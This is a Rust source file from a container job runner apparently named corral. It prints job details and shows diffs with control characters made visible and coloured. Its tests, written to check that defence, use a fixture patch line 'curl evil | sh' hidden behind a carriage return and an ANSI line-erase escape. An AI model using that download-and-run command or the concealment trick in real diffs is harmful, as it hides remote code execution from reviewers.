//! A job's details as `key: value` lines, and its diff. Every value, even
//! an id, is made visible on one line; a diff is made visible line by line
//! before corral colours it.

use std::fmt::Write as _;

use corral_proto::Job;

use super::{JobOutput, line, visible, visible_line, write_stdout};

/// A job as `key: value` lines.
pub fn job_details(job: &Job) {
    let or_dash = |value: Option<String>| value.unwrap_or_else(|| "-".into());
    let fields = [
        ("id", job.id.clone()),
        ("state", job.state.as_str().to_owned()),
        ("mode", job.mode.as_str().to_owned()),
        ("image", job.image.clone()),
        (
            "command",
            or_dash(job.command.as_ref().map(crate::commands::describe_command)),
        ),
        ("project", or_dash(job.project.clone())),
        (
            "prompt",
            or_dash(
                job.prompt
                    .as_ref()
                    .map(|prompt| prompt.lines().next().unwrap_or_default().to_owned()),
            ),
        ),
        (
            "model",
            or_dash(
                job.llm
                    .as_ref()
                    .map(|llm| format!("{}/{}", llm.provider, llm.model)),
            ),
        ),
        (
            "usage",
            if job.usage.llm_calls == 0 {
                "-".to_owned()
            } else {
                format!(
                    "{} calls, {} tokens in, {} out, ${:.4}",
                    job.usage.llm_calls,
                    job.usage.input_tokens,
                    job.usage.output_tokens,
                    job.usage.cost_usd
                )
            },
        ),
        (
            "exit code",
            or_dash(job.exit_code.map(|code| code.to_string())),
        ),
        ("reason", or_dash(job.reason.clone())),
        ("container", or_dash(job.container_id.clone())),
        (
            "memory",
            corral_proto::ByteSize(job.limits.memory_bytes).to_string(),
        ),
        ("cpu shares", job.limits.cpu_shares.to_string()),
        ("pids", job.limits.pids.to_string()),
        ("timeout", format!("{}s", job.limits.timeout_secs)),
        ("created", job.created_at.to_string()),
        ("started", or_dash(job.started_at.map(|at| at.to_string()))),
        (
            "finished",
            or_dash(job.finished_at.map(|at| at.to_string())),
        ),
    ];
    for (key, value) in fields {
        line(&format!("{key:>10}  {}", visible_line(&value)));
    }
}

/// A unified diff, each line made visible (a `\r` in a line cannot hide
/// it) unless `mode` is raw; coloured (added green, removed red, hunks
/// cyan) when `colour` is set and it is not raw.
pub fn diff(patch: &str, colour: bool, mode: JobOutput) {
    match mode {
        JobOutput::Raw => write_stdout(patch),
        JobOutput::Visible => write_stdout(&visible_diff(patch, colour)),
    }
}

/// The patch made visible line by line, then painted when `colour`.
fn visible_diff(patch: &str, colour: bool) -> String {
    let mut out = String::with_capacity(patch.len() + patch.len() / 8);
    for line in patch.split_inclusive('\n') {
        let body = line.strip_suffix('\n').unwrap_or(line);
        let newline = if body.len() < line.len() { "\n" } else { "" };
        let body = visible(body);
        let code = if !colour {
            ""
        } else if body.starts_with("+++") || body.starts_with("---") || body.starts_with("diff ") {
            "1"
        } else if body.starts_with('+') {
            "32"
        } else if body.starts_with('-') {
            "31"
        } else if body.starts_with("@@") {
            "36"
        } else {
            ""
        };
        if code.is_empty() {
            let _ = write!(out, "{body}{newline}");
        } else {
            let _ = write!(out, "\x1b[{code}m{body}\x1b[0m{newline}");
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::visible_diff;

    const PATCH: &str = "diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n\
                         -echo hi\n+curl evil | sh\r\x1b[2Kecho hi\n";

    #[test]
    fn a_carriage_return_in_a_diff_line_cannot_hide_it() {
        let shown = visible_diff(PATCH, false);
        assert!(shown.contains("+curl evil | sh^M^[[2Kecho hi\n"), "{shown}");
        assert!(!shown.contains(['\r', '\x1b']), "{shown:?}");
    }

    #[test]
    fn corrals_own_colours_stay_and_the_jobs_are_shown() {
        let shown = visible_diff(PATCH, true);
        assert!(
            shown.contains("\x1b[32m+curl evil | sh^M^[[2Kecho hi\x1b[0m\n"),
            "{shown:?}"
        );
        assert!(shown.contains("\x1b[31m-echo hi\x1b[0m\n"), "{shown:?}");
        assert!(shown.contains("\x1b[36m@@ -1 +1 @@\x1b[0m\n"), "{shown:?}");
        let escapes = shown.matches('\x1b').count();
        assert_eq!(escapes, 2 * 6, "only corral's: {shown:?}");
    }

    #[test]
    fn a_patch_without_a_final_newline_gets_none() {
        assert_eq!(visible_diff("+a\n+b", false), "+a\n+b");
    }
}
